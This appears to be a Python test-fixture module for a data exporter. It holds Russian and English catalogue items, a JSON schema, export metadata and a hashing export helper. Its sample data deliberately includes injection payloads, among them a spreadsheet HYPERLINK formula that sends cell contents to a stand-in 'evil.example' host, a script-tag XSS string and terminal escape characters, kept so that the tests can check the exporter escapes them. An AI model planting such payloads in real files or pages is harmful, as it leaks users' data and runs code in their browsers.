"""Shared sample data for the writer tests: nested Russian/English items plus injection payloads.

Imported as ``services.exporter.tests.unit.samples`` (the repository root is on ``pythonpath``)."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
from collections.abc import Iterable
from typing import Any

from llmts_exporter.writers import ExportItem, ExportMeta, ExportOptions, write_export

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Нажми")'
SCRIPT = "<script>alert(1)</script>"
CONTROL = "bell\x07 nul\x00 esc\x1b[31m red"

SCHEMA: dict[str, Any] = {
    "type": "object",
    "$defs": {
        "money": {
            "type": "object",
            "properties": {"amount": {"type": "number"}, "currency": {"type": "string"}},
            "additionalProperties": False,
        }
    },
    "properties": {
        "name": {"type": "string"},
        "price": {"anyOf": [{"$ref": "#/$defs/money"}, {"type": "null"}]},
        "in_stock": {"type": "boolean"},
        "quantity": {"type": "integer"},
        "tags": {"type": "array", "items": {"type": "string"}},
        "supplier": {
            "type": "object",
            "properties": {"name": {"type": "string"}, "city": {"type": "string"}},
        },
        "released": {"type": "string", "format": "date-time"},
        "note": {"type": ["string", "null"]},
    },
}

ITEMS: list[dict[str, Any]] = [
    {
        "name": "Чайник электрический «Витязь»",
        "price": {"amount": 2499.5, "currency": "RUB"},
        "in_stock": True,
        "quantity": 12,
        "tags": ["кухня", "новинка"],
        "supplier": {"name": "ООО Ромашка", "city": "Москва"},
        "released": "2025-03-01T10:00:00Z",
        "note": FORMULA,
    },
    {
        "name": "Kettle <b>bold</b> & co",
        "price": None,
        "in_stock": False,
        "quantity": -3,
        "tags": [],
        "supplier": {"name": SCRIPT, "city": "Санкт-Петербург"},
        "released": "2025-04-02T11:30:00+03:00",
        "note": "line one\nline two | pipe ]]> end",
    },
    {
        "name": "+79991234567",
        "price": {"amount": 10, "currency": "@USD"},
        "in_stock": None,
        "quantity": 0,
        "tags": ["x"],
        "supplier": {"name": CONTROL, "city": "-Казань"},
        "released": "2025-05-03T00:00:00Z",
        "note": None,
        # keys the schema does not name, some not valid XML names
        "1st name": "Иван",
        "a:b": "\tтаб",
        "<x>": {"y": "вложенное"},
    },
]

TEXTS = [
    "Жили-были дед да баба. Была у них курочка Ряба.",
    f"Second story with {SCRIPT} and {FORMULA}\nand a new line | pipe.",
    CONTROL,
]


def make_meta(**overrides: Any) -> ExportMeta:
    fields: dict[str, Any] = {
        "job_id": "job-0042",
        "template_name": "Каталог товаров",
        "template_version": 3,
        "model": "gpt-4o-mini",
        "created_at": dt.datetime(2025, 6, 1, 12, 0, tzinfo=dt.UTC),
        "requested": 4,
        "succeeded": 3,
        "rejected": 1,
        "prompt_tokens": 1200,
        "completion_tokens": 3400,
        "cost_usd": 0.0123,
        "output_format": "json",
        "schema": SCHEMA,
    }
    fields.update(overrides)
    return ExportMeta(**fields)


class Factory:
    """An items factory that counts how often it was called."""

    def __init__(self, data: Iterable[Any]) -> None:
        self.items = [ExportItem(i, d) for i, d in enumerate(data)]
        self.calls = 0

    def __call__(self) -> Iterable[ExportItem]:
        self.calls += 1
        return iter(self.items)


def export(fmt: str, data: Iterable[Any] | Factory, meta: ExportMeta | None = None, **options: Any) -> bytes:
    """Run one export into memory and check the returned WriteStats against the bytes."""
    factory = data if isinstance(data, Factory) else Factory(data)
    out = io.BytesIO()
    stats = write_export(fmt, factory, meta or make_meta(), out, ExportOptions(**options))
    raw = out.getvalue()
    assert stats.bytes == len(raw)
    assert stats.sha256 == hashlib.sha256(raw).hexdigest()
    assert stats.items == len(factory.items)
    return raw


def text_meta() -> ExportMeta:
    return make_meta(output_format="text", schema=None, template_name="Сказки")
